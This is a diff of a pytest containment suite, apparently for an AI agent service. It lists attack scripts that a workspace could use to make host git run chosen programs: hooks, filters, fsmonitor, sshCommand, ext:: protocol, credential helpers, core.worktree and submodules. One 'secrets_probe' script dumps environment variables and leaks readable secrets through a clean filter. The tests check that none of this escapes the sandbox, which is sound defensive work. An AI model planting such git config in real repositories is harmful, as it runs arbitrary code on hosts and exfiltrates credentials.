@@ -23,51 +23,81 @@ import pytest
 
 from .agent_env import BUGGY_PROJECT
 from .containment_support import (
-    ARMED, Attack, Campaign, as_text, every_object, found_secrets, markers, outside_paths,
-    refs, repo_state, tree,
+    ARMED,
+    Attack,
+    Campaign,
+    as_text,
+    every_object,
+    found_secrets,
+    markers,
+    outside_paths,
+    refs,
+    repo_state,
+    tree,
 )
 
 pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]
 
-HOOKS = ("applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit "
-         "prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push "
-         "pre-receive update proc-receive post-receive post-update reference-transaction "
-         "push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman "
-         "post-index-change")
+HOOKS = (
+    "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit "
+    "prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push "
+    "pre-receive update proc-receive post-receive post-update reference-transaction "
+    "push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman "
+    "post-index-change"
+)
 
 ATTACKS = [
     Attack("benign", "fix\n"),  # the control: a plain fix must still be delivered
-    Attack("filter_clean", r"""
+    Attack(
+        "filter_clean",
+        r"""
 cfg filter.evil.clean "$(mk filter-clean pass)"
 cfg filter.evil.smudge "$(mk filter-smudge pass)"
 echo '* filter=evil' > .gitattributes
 fix
-""", creates=(".gitattributes",)),
-    Attack("filter_process", r"""
+""",
+        creates=(".gitattributes",),
+    ),
+    Attack(
+        "filter_process",
+        r"""
 cfg filter.proc.process "$(mk filter-process)"
 mkdir -p .git/info && echo '*.py filter=proc' > .git/info/attributes
 cfg core.attributesFile "$W/.git/more-attributes"
 echo '*.md filter=attrfile' > .git/more-attributes
 cfg filter.attrfile.clean "$(mk attributesfile-filter-clean pass)"
 fix; echo 'More.' >> README.md
-"""),
-    Attack("fsmonitor", r"""
+""",
+    ),
+    Attack(
+        "fsmonitor",
+        r"""
 cfg core.fsmonitor "$(mk core-fsmonitor)"
 cfg core.fsmonitorHookVersion 2
 cfg core.untrackedCache true
 fix; echo new > new-file.txt
-""", creates=("new-file.txt",)),
-    Attack("hooks", f"""
+""",
+        creates=("new-file.txt",),
+    ),
+    Attack(
+        "hooks",
+        f"""
 for h in {HOOKS}; do cp "$(mk hook-$h)" ".git/hooks/$h"; done
 fix
-"""),
-    Attack("hooks_path", f"""
+""",
+    ),
+    Attack(
+        "hooks_path",
+        f"""
 mkdir -p .git/myhooks
 for h in {HOOKS}; do cp "$(mk hookspath-$h)" ".git/myhooks/$h"; done
 cfg core.hooksPath "$W/.git/myhooks"
 fix
-"""),
-    Attack("include", r"""
+""",
+    ),
+    Attack(
+        "include",
+        r"""
 {
   echo '[filter "inc"]'; echo "  clean = $(mk include-filter-clean pass)"
   echo '[core]'; echo "  fsmonitor = $(mk include-fsmonitor)"; echo "  hooksPath = $W/.git/inc-hooks"
@@ -82,8 +112,12 @@ cfg include.path evil.inc
 cfg --add include.path "$W/.git/evil2.inc"
 printf '*.py filter=inc\n*.md filter=inc2\n' > .gitattributes
 fix; echo 'More.' >> README.md
-""", creates=(".gitattributes",)),
-    Attack("include_if", r"""
+""",
+        creates=(".gitattributes",),
+    ),
+    Attack(
+        "include_if",
+        r"""
 for kind in gitdir gitdiri onbranch hasconfig; do
   clean=$(mk includeif-$kind-filter-clean pass)
   printf '[filter "if%s"]\n  clean = %s\n' "$kind" "$clean" > ".git/if-$kind.inc"
@@ -95,22 +129,32 @@ cfg "includeIf.hasconfig:remote.*.url:**.path" "$W/.git/if-hasconfig.inc"
 printf '%s filter=%s\n' calc.py ifgitdir test_calc.py ifgitdiri README.md ifonbranch \
   notes.txt ifhasconfig > .gitattributes
 fix; echo '# checked' >> test_calc.py; echo 'More.' >> README.md; echo notes > notes.txt
-""", creates=(".gitattributes", "notes.txt")),
-    Attack("ssh_command", r"""
+""",
+        creates=(".gitattributes", "notes.txt"),
+    ),
+    Attack(
+        "ssh_command",
+        r"""
 cfg "url.ssh://agentd-evil@127.0.0.1:1/evil.git.insteadOf" "@OWN_URL@"
 cfg "url.ssh://agentd-evil@127.0.0.1:1/evil.git.pushInsteadOf" "@OWN_URL@"
 cfg core.sshCommand "$(mk core-ssh-command)"
 cfg ssh.variant ssh
 fix
-"""),
-    Attack("git_proxy", r"""
+""",
+    ),
+    Attack(
+        "git_proxy",
+        r"""
 cfg "url.git://127.0.0.1:1/evil.git.insteadOf" "@OWN_URL@"
 cfg "url.git://127.0.0.1:1/evil.git.pushInsteadOf" "@OWN_URL@"
 cfg core.gitProxy "$(mk core-git-proxy)"
 cfg protocol.git.allow always
 fix
-"""),
-    Attack("protocol_allow", r"""
+""",
+    ),
+    Attack(
+        "protocol_allow",
+        r"""
 cfg protocol.allow always
 cfg protocol.ext.allow always
 cfg protocol.fd.allow always
@@ -118,27 +162,39 @@ cfg "url.ext::$(mk protocol-ext-insteadof) %S.insteadOf" "@OWN_URL@"
 cfg "url.ext::$(mk protocol-ext-pushinsteadof) %S.pushInsteadOf" "@OWN_URL@"
 cfg remote.origin.url "ext::$(mk protocol-ext-origin) %S"
 fix
-"""),
-    Attack("credential_helper", r"""
+""",
+    ),
+    Attack(
+        "credential_helper",
+        r"""
 cfg credential.helper "!$(mk credential-helper-shell)"
 cfg --add credential.helper "$(mk credential-helper-path)"
 cfg "credential.@OWN_URL@.helper" "$(mk credential-url-helper)"
 cfg credential.useHttpPath true
 cfg core.askPass "$(mk core-askpass)"
 fix
-"""),
-    Attack("insteadof_decoy", r"""
+""",
+    ),
+    Attack(
+        "insteadof_decoy",
+        r"""
 cfg "url.@DECOY_URL@.insteadOf" "@OWN_URL@"
 cfg "url.@DECOY_PATH@.pushInsteadOf" "@OWN_URL@"
 fix
-"""),
-    Attack("http_proxy", r"""
+""",
+    ),
+    Attack(
+        "http_proxy",
+        r"""
 cfg http.proxy "@DECOY_BASE@"
 cfg "http.@OWN_URL@.proxy" "@DECOY_BASE@"
 cfg remote.origin.proxy "@DECOY_BASE@"
 fix
-"""),
-    Attack("remote_config", r"""
+""",
+    ),
+    Attack(
+        "remote_config",
+        r"""
 cfg remote.origin.url "@DECOY_URL@"
 cfg remote.origin.pushurl "@DECOY_PATH@"
 cfg --add remote.origin.pushurl "@DECOY_URL@"
@@ -149,8 +205,11 @@ cfg remote.pushDefault origin
 cfg "remote.@OWN_URL@.pushurl" "@DECOY_PATH@"
 cfg "remote.@OWN_URL@.receivepack" "$(mk remote-url-receivepack)"
 fix
-"""),
-    Attack("diff_pager_editor", r"""
+""",
+    ),
+    Attack(
+        "diff_pager_editor",
+        r"""
 cfg diff.external "$(mk diff-external)"
 cfg diff.evil.command "$(mk diff-driver-command)"
 cfg diff.conv.textconv "$(mk diff-textconv pass)"
@@ -162,8 +221,12 @@ cfg merge.evil.driver "$(mk merge-driver)"
 cfg interactive.diffFilter "$(mk interactive-diff-filter)"
 printf '*.py diff=evil merge=evil\n*.md diff=conv\n' > .gitattributes
 fix; echo 'More.' >> README.md
-""", creates=(".gitattributes",)),
-    Attack("gpg_signing", r"""
+""",
+        creates=(".gitattributes",),
+    ),
+    Attack(
+        "gpg_signing",
+        r"""
 cfg gpg.program "$(mk gpg-program)"
 cfg gpg.ssh.program "$(mk gpg-ssh-program)"
 cfg gpg.x509.program "$(mk gpg-x509-program)"
@@ -173,27 +236,37 @@ cfg commit.gpgSign true
 cfg tag.gpgSign true
 cfg push.gpgSign if-asked
 fix
-"""),
-    Attack("upload_pack_alternates", r"""
+""",
+    ),
+    Attack(
+        "upload_pack_alternates",
+        r"""
 cfg uploadpack.packObjectsHook "$(mk uploadpack-packobjectshook)"
 cfg uploadpack.allowAnySHA1InWant true
 cfg core.alternateRefsCommand "$(mk core-alternate-refs-command)"
 mkdir -p .git/objects/info && echo "@DECOY_PATH@/objects" >> .git/objects/info/alternates
 fix
-"""),
+""",
+    ),
     # core.worktree at the data dir: a host git would commit agentd.db, secret.key and the
     # other tasks' workspaces (half-made clones excluded: `git add` refuses them). Whatever a
     # sandboxed git can see there (only the workspace's own mount point) is fair game, hence
     # "workspaces/<its task id>".
-    Attack("core_worktree", r"""
+    Attack(
+        "core_worktree",
+        r"""
 cfg core.worktree "@DATA@"
 mkdir -p .git/info && printf '.staging-*\n' >> .git/info/exclude
 fix
-""", creates=("workspaces/{task}", "workspaces/{task}/*")),
+""",
+        creates=("workspaces/{task}", "workspaces/{task}/*"),
+    ),
     # A nested repository registered as a submodule: its own config has a clean filter, and a
     # tracked file whose mtime changed makes any `git status` that looks into it hash it.
     # (`update = !cmd` goes in .git/config: git itself refuses it in .gitmodules, and dies.)
-    Attack("submodule", r"""
+    Attack(
+        "submodule",
+        r"""
 g init -q sub
 (
   cd sub
@@ -215,10 +288,14 @@ cfg status.submoduleSummary true
 cfg diff.submodule log
 g add sub .gitmodules
 fix
-""", creates=("sub", ".gitmodules")),
+""",
+        creates=("sub", ".gitmodules"),
+    ),
     # What the brief's agent runs to find secrets, and a clean filter that appends whatever it
     # can read (environment, key file, another user's files) to a committed file.
-    Attack("secrets_probe", r"""
+    Attack(
+        "secrets_probe",
+        r"""
 echo '--- env'; env
 echo '--- environ'; tr '\0' '\n' < /proc/self/environ; echo
 echo '--- every environ'
@@ -240,13 +317,23 @@ echo 'leak.txt filter=leak' > .gitattributes
 echo 'what the filter saw:' > leak.txt
 fix
 echo PROBE-DONE
-""", creates=(".gitattributes", "leak.txt")),
+""",
+        creates=(".gitattributes", "leak.txt"),
+    ),
 ]
 
 PROJECT = sorted([*BUGGY_PROJECT, "attack.sh"])
 # Names that exist only in the data dir: never a path in a pushed tree.
-DATA_DIR_NAMES = ("agentd.db", "agentd.db-wal", "agentd.db-shm", "secret.key", "agentd.lock",
-                  "script.json", "victim-notes.txt", "host-markers")
+DATA_DIR_NAMES = (
+    "agentd.db",
+    "agentd.db-wal",
+    "agentd.db-shm",
+    "secret.key",
+    "agentd.lock",
+    "script.json",
+    "victim-notes.txt",
+    "host-markers",
+)
 
 
 @pytest.fixture(scope="module")
@@ -269,8 +356,10 @@ def test_the_attack_runs_nothing_on_the_host_and_pushes_only_the_workspace(campa
 
     # Nothing of it ran on the host.
     ran = markers(campaign.marks, f"{name}.")
-    assert not ran, (f"programs chosen by the workspace ran on the host: {_names(ran)} as "
-                     f"{sorted(set(ran.values()))}; the task ended {task['status']}: {task['error']}")
+    assert not ran, (
+        f"programs chosen by the workspace ran on the host: {_names(ran)} as "
+        f"{sorted(set(ran.values()))}; the task ended {task['status']}: {task['error']}"
+    )
 
     # The task ended, with a reason when it failed.
     assert task["status"] in ("succeeded", "failed"), task
@@ -313,8 +402,11 @@ def test_pushes_reach_only_the_task_own_remote(campaign):
     assert repo_state(campaign.decoy_path) == campaign.decoy_before, "the decoy repository changed"
     for name, outcome in campaign.outcomes.items():
         assert refs(outcome.remote)["refs/heads/main"] == outcome.main, f"{name}: main was changed"
-        others = {f"refs/heads/{o.task['branch']}" for o in campaign.outcomes.values()
-                  if o is not outcome and o.task.get("branch")}
+        others = {
+            f"refs/heads/{o.task['branch']}"
+            for o in campaign.outcomes.values()
+            if o is not outcome and o.task.get("branch")
+        }
         assert not set(_pushed_branches(outcome)) & others, f"{name}'s remote got another task's branch"
 
 
@@ -322,10 +414,12 @@ def test_no_secret_nor_another_user_file_in_any_event_conversation_task_or_pushe
     named = campaign.secrets.named()
     leaks = {}
     for name, outcome in campaign.outcomes.items():
-        for where, blob in (("events", as_text(outcome.events)),
-                            ("conversation", as_text(outcome.messages)),
-                            ("task", as_text(outcome.task)),
-                            ("pushed objects", every_object(outcome.remote))):
+        for where, blob in (
+            ("events", as_text(outcome.events)),
+            ("conversation", as_text(outcome.messages)),
+            ("task", as_text(outcome.task)),
+            ("pushed objects", every_object(outcome.remote)),
+        ):
             if found := found_secrets(blob, named):
                 leaks[f"{name} {where}"] = found
     decoy = found_secrets(every_object(campaign.decoy_path), named)
